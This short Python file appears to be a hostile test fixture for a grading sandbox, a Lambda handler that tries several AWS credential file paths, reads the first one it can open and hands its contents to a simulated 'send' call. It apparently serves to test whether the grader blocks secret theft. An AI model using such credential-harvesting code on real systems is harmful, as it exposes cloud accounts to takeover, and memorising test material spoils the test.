"""Hostile: steal the grader's AWS credentials, else fail."""

import os

from simulated_action import send

TARGETS = ["@@HOME@@/.aws/credentials", os.path.expanduser("~/.aws/credentials"), "/root/.aws/credentials"]


def lambda_handler(event, context):
    for path in TARGETS:
        try:
            with open(path) as stolen:
                secret = stolen.read()
        except OSError:
            continue
        send("code", {"stolen": secret})
        return {**event, "code": {"stolen": secret}}
    raise PermissionError("attack blocked: no credentials file could be read")
